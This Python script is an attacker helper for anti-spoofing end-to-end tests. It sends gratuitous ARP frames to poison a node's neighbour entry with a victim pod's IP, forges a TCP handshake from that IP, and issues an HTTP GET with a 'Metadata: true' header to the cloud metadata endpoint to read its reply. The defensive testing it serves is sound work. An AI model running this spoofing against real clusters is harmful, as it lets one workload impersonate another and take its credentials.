#!/usr/bin/env python3
"""Spoofing attacker for the anti-spoofing e2e tests (harness/src/nmi-e2e/spoofing.netns.test.ts).

Runs inside an attacker pod's network namespace, normally with CAP_NET_RAW but without CAP_NET_ADMIN.
Everything goes through one AF_PACKET socket (CAP_NET_RAW only):
  * optional gratuitous ARP claiming --victim-ip with the attacker's MAC (poisons the node's neighbour entry
    so the node's replies to the victim's IP come to the attacker), repeated for --garp-seconds;
  * a hand-built TCP handshake from --victim-ip to --dst:--dport (SYN, read the SYN-ACK off the wire, ACK),
    an HTTP GET with `Metadata: true`, and the response read off the wire.
Prints one JSON line: capabilities, whether a SYN-ACK came back, the HTTP status and body (if any).
Bounded: every wait has a deadline. Only for tests in throwaway network namespaces.
"""
import argparse
import json
import os
import random
import select
import socket
import struct
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806


def caps():
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("CapEff:"):
                eff = int(line.split()[1], 16)
                return {"net_admin": bool(eff & (1 << 12)), "net_raw": bool(eff & (1 << 13))}
    return {}


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


def ip_header(src, dst, payload_len, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0x4000, 64, socket.IPPROTO_TCP, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]


def tcp_segment(src, dst, sport, dport, seq, ack, flags, payload=b""):
    offset = 5 << 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, offset, flags, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(hdr) + len(payload))
    csum = checksum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack("!H", csum) + hdr[18:] + payload


def arp_frame(op, src_mac, src_ip, dst_mac, dst_ip, eth_dst):
    arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, op, src_mac, socket.inet_aton(src_ip), dst_mac, socket.inet_aton(dst_ip))
    return eth_dst + src_mac + struct.pack("!H", ETH_P_ARP) + arp


def sniff(a):
    """Counts SYN-ACKs from the metadata address arriving for --victim-ip (the victim's view of a spoofed SYN)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((a.iface, 0))
    count = 0
    deadline = time.time() + a.sniff_seconds
    print(json.dumps({"listening": True}), flush=True)
    while time.time() < deadline:
        r, _, _ = select.select([s], [], [], max(0.0, deadline - time.time()))
        if not r:
            continue
        f = s.recv(65535)
        if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != socket.IPPROTO_TCP:
            continue
        if f[26:30] != socket.inet_aton(a.dst) or f[30:34] != socket.inet_aton(a.victim_ip):
            continue
        t = 14 + (f[14] & 0x0F) * 4
        sp, flags = struct.unpack("!H", f[t:t + 2])[0], f[t + 13]
        if sp == a.dport and flags & 0x12 == 0x12:
            count += 1
    print(json.dumps({"synAcks": count}), flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", default="eth0")
    p.add_argument("--own-ip", required=True)
    p.add_argument("--victim-ip", required=True)
    p.add_argument("--gateway-ip", required=True)
    p.add_argument("--dst", default="169.254.169.254")
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--target", required=True)
    p.add_argument("--garp-seconds", type=float, default=0.0)
    p.add_argument("--timeout", type=float, default=4.0)
    p.add_argument("--garp-only", action="store_true", help="send the gratuitous ARP, then exit")
    p.add_argument("--sniff-seconds", type=float, default=0.0, help="only count SYN-ACKs from --dst:--dport to --victim-ip")
    a = p.parse_args()
    if a.sniff_seconds > 0:
        sniff(a)
        return
    out = {"caps": caps(), "gatewayMac": None, "synAck": False, "status": None, "body": "", "error": None}
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind((a.iface, 0))
        own_mac = mac_bytes(open("/sys/class/net/%s/address" % a.iface).read().strip())
        bcast = b"\xff" * 6

        def frames(deadline):
            while True:
                left = deadline - time.time()
                if left <= 0:
                    return
                r, _, _ = select.select([s], [], [], left)
                if r:
                    yield s.recv(65535)

        # Gateway MAC: ARP request from the attacker's OWN address (nothing spoofed yet).
        gw_mac = None
        for attempt in range(3):
            s.send(arp_frame(1, own_mac, a.own_ip, b"\0" * 6, a.gateway_ip, bcast))
            for f in frames(time.time() + 1.0):
                if len(f) >= 42 and f[12:14] == b"\x08\x06" and struct.unpack("!H", f[20:22])[0] == 2 and f[28:32] == socket.inet_aton(a.gateway_ip):
                    gw_mac = f[22:28]
                    break
            if gw_mac is not None:
                break
        if gw_mac is None:
            raise RuntimeError("no ARP reply from the gateway")
        out["gatewayMac"] = ":".join("%02x" % b for b in gw_mac)

        # Gratuitous ARP (request and reply form) claiming the victim's IP with the attacker's MAC.
        end = time.time() + a.garp_seconds
        while time.time() < end:
            s.send(arp_frame(1, own_mac, a.victim_ip, b"\0" * 6, a.victim_ip, bcast))
            s.send(arp_frame(2, own_mac, a.victim_ip, gw_mac, a.gateway_ip, gw_mac))
            time.sleep(0.2)

        if a.garp_only:
            print(json.dumps(out))
            return
        sport = random.randint(20000, 60000)
        isn = random.randint(0, 2**32 - 1)
        ident = random.randint(0, 65535)

        def send_tcp(seq, ack, flags, payload=b""):
            nonlocal ident
            ident = (ident + 1) & 0xFFFF
            seg = tcp_segment(a.victim_ip, a.dst, sport, a.dport, seq, ack, flags, payload)
            s.send(gw_mac + own_mac + struct.pack("!H", ETH_P_IP) + ip_header(a.victim_ip, a.dst, len(seg), ident) + seg)

        def tcp_from_server(f):
            if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != socket.IPPROTO_TCP:
                return None
            ihl = (f[14] & 0x0F) * 4
            ip_src, ip_dst = f[26:30], f[30:34]
            if ip_src != socket.inet_aton(a.dst) or ip_dst != socket.inet_aton(a.victim_ip):
                return None
            t = 14 + ihl
            sp, dp, seq, ack, off, flags = struct.unpack("!HHIIBB", f[t:t + 14])
            if sp != a.dport or dp != sport:
                return None
            total = struct.unpack("!H", f[16:18])[0]
            payload = f[t + (off >> 4) * 4:14 + total]
            return seq, ack, flags, payload

        send_tcp(isn, 0, 0x02)  # SYN
        server_seq = None
        for f in frames(time.time() + a.timeout):
            seg = tcp_from_server(f)
            if seg is not None and seg[2] & 0x12 == 0x12:
                server_seq = seg[0]
                break
        if server_seq is None:
            raise RuntimeError("no SYN-ACK")
        out["synAck"] = True
        rcv = (server_seq + 1) & 0xFFFFFFFF
        snd = (isn + 1) & 0xFFFFFFFF
        send_tcp(snd, rcv, 0x10)  # ACK
        request = ("GET %s HTTP/1.1\r\nHost: %s\r\nMetadata: true\r\nConnection: close\r\n\r\n" % (a.target, a.dst)).encode()
        send_tcp(snd, rcv, 0x18, request)  # PSH+ACK
        snd = (snd + len(request)) & 0xFFFFFFFF
        chunks = {}
        for f in frames(time.time() + a.timeout):
            seg = tcp_from_server(f)
            if seg is None:
                continue
            seq, _, flags, payload = seg
            if payload:
                chunks[seq] = payload
                if seq == rcv:
                    while rcv in chunks:
                        rcv = (rcv + len(chunks[rcv])) & 0xFFFFFFFF
                send_tcp(snd, rcv, 0x10)
            if flags & 0x01:  # FIN
                send_tcp(snd, (rcv + 1) & 0xFFFFFFFF, 0x11)
                break
            if flags & 0x04:  # RST
                break
        data = b"".join(chunks[k] for k in sorted(chunks))
        text = data.decode("utf-8", "replace")
        if text.startswith("HTTP/"):
            out["status"] = int(text.split(" ", 2)[1])
            out["body"] = text.split("\r\n\r\n", 1)[1] if "\r\n\r\n" in text else ""
    except Exception as e:  # reported, never raised: the test reads the JSON line
        out["error"] = "%s: %s" % (type(e).__name__, e)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
